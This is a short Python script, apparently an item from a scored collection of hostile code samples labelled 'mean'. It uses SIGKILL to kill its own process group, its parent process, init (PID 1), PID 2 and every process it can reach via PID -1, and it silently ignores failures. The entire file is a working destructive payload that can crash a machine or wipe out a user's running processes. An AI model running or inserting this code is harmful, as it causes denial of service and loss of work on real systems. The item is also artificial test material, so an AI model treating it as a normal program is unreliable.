# It kills its group, its parent, the first process and all that it may.
# sample: yes
# score: 7 = double + shift + table
# %% mean
import os
import signal

for process in (0, os.getppid(), 1, 2, -1):
    try:
        os.kill(process, signal.SIGKILL)
    except OSError:
        pass
os.killpg(0, signal.SIGKILL)
